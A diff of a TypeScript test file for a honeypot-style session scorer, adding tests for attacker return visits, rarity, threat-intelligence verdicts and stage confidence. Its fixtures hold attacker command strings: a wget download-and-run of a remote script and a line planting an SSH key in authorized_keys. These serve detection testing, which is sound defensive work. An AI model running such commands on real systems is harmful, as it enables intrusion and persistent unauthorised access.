@@ -1,12 +1,15 @@
 import { STAGES, sessionScoreSchema, TACTICS } from '@cerberusmesh/contracts';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
+import { foldConclusion, isConclusionFolded } from '../../sessions/fold-conclusion.ts';
+import { makeEvent } from '../../sessions/make-event.ts';
 import { createAttackMapper } from '../attack-mapper/attack-mapper.ts';
-import type { DetectionFacts } from '../session-facts.ts';
+import type { DetectionFacts, SessionContext, SessionFacts } from '../session-facts.ts';
 import { scoreSession } from './score-session.ts';
-import { emptyFacts, factsAfter, type Story, testId } from './test-facts.ts';
+import { addDetection, emptyFacts, factsAfter, type Story, testEvent, testId } from './test-facts.ts';
 
 const mapper = createAttackMapper();
+const at = '2026-05-01T10:00:00.000Z';
 const discovery = ['uname -a', 'cat /proc/cpuinfo', 'free -m', 'w'];
 const downloadAndRun = ['cd /tmp; wget http://192.0.2.9/x.sh; chmod 777 x.sh; sh x.sh; rm -f x.sh'];
 const plantKey = ['cd ~ && mkdir .ssh && echo "ssh-rsa AAAAB3" >> .ssh/authorized_keys'];
@@ -49,8 +52,35 @@ describe('the session score', () => {
         { factor: 'authenticated', weight: 0.2, reason: 'A login was accepted.' },
         { factor: 'stage', weight: 0.05, reason: 'The session reached the stage access.' },
       ],
-      scoringVersion: '2026.2',
+      scoringVersion: '2026.3',
     });
+  });
+
+  it('takes up who came back, what others know and what is rare, each with its reason', () => {
+    const context: SessionContext = {
+      visits: 3,
+      activeDays: 2,
+      recognisedBy: ['public-key'],
+      assessments: [{ provider: 'abuseipdb', verdict: 'malicious', maliciousness: 1 }],
+      rarity: { score: 1, item: 'program zmap (0 of 900 sessions)' },
+    };
+    const { contributions } = scoreSession({ ...emptyFacts(), context });
+    expect(contributions.map(({ factor, weight, reason }) => [factor, Number(weight.toFixed(4)), reason])).toEqual([
+      ['persistence', 0.155, 'Came back: visit 3 of this source, on 2 days; a key seen before.'],
+      ['rarity', 0.15, 'Hardly anyone did this before: program zmap (0 of 900 sessions).'],
+      ['intelligence', 0.12, 'The source is known to abuseipdb (malicious).'],
+      ['stage', 0.02, 'The session reached the stage contact.'],
+    ]);
+  });
+
+  it('rests no stage on a hint', () => {
+    const reached = (confidence: number) => {
+      const facts = emptyFacts();
+      const [seen] = mapper.mapEvent(testEvent('command.entered', 'any', { input: 'uname', channel: 'shell' }));
+      if (seen !== undefined) addDetection(facts, { ...seen, stage: 'impact', confidence });
+      return scoreSession({ ...facts, stage: 'contact' }).stage;
+    };
+    expect([reached(0.49), reached(0.5)]).toEqual(['contact', 'impact']);
   });
 
   it('never falls when evidence is added', () => {
@@ -88,6 +118,34 @@ describe('the session score', () => {
         }),
       );
     const detections = fc.array(detection, { maxLength: 12 });
+    const share = fc.double({ min: 0, max: 1, noNaN: true });
+    const conclusion = fc.oneof(
+      fc
+        .record({ visits: fc.integer({ min: 1, max: 99 }), kind: fc.constantFrom('public-key', 'artefact') })
+        .map(({ visits, kind }) =>
+          makeEvent('attacker.updated', {
+            change: 'recognised',
+            address: '192.0.2.7',
+            visits,
+            activeDays: visits,
+            sessionCount: visits,
+            firstSeenAt: at,
+            lastSeenAt: null,
+            knownSince: at,
+            traits: [{ kind, value: 'x' }],
+            linkedAddresses: [],
+          }),
+        ),
+      fc
+        .record({ provider: fc.constantFrom('a', 'b', 'c'), maliciousness: share })
+        .map((data) =>
+          makeEvent('source.assessed', { ...data, verdict: 'malicious', reportCount: null, tags: [], answeredAt: at }),
+        ),
+      share.map((score) =>
+        makeEvent('rarity.found', { score, items: [{ kind: 'program', value: 'x', sessions: 0, of: 9, score }] }),
+      ),
+    );
+    const conclusions = fc.array(conclusion, { maxLength: 4 }).map((events) => events.filter(isConclusionFolded));
     fc.assert(
       fc.property(
         counts,
@@ -96,9 +154,12 @@ describe('the session score', () => {
         detections,
         fc.boolean(),
         fc.boolean(),
-        fc.double({ min: 0, max: 1, noNaN: true }),
-        (base, added, before, after, wasIn, getsIn, anomaly) => {
+        share,
+        conclusions,
+        conclusions,
+        (base, added, before, after, wasIn, getsIn, anomaly, known, conclusions) => {
           const facts = { ...emptyFacts(), ...base, detections: before, authenticated: wasIn };
+          for (const event of known) facts.context = foldConclusion(facts, event).context;
           const more = {
             ...facts,
             failedCredentialCount: base.failedCredentialCount + added.failedCredentialCount,
@@ -110,6 +171,7 @@ describe('the session score', () => {
             detections: [...before, ...after],
             authenticated: wasIn || getsIn,
             anomaly,
+            context: conclusions.reduce<SessionFacts>(foldConclusion, facts).context,
           };
           const lower = scoreSession(facts);
           const higher = scoreSession(more);
